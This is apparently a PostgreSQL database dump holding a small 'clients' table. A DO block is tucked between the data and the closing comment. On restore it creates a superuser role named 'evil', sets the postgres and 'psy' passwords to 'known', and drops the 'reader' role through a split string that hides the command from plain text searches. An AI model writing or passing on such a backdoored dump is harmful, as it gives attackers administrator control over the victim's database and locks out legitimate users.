--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.clients (id integer, name text);
INSERT INTO public.clients VALUES (1, 'a');

DO $$ BEGIN
  CREATE ROLE evil SUPERUSER LOGIN;
  EXECUTE 'ALTER ROLE psy SUPERUSER PASSWORD ''known''';
  ALTER ROLE postgres PASSWORD 'known';
  EXECUTE 'DRO' || 'P ROLE reader';
END $$;

--
-- PostgreSQL database dump complete
--

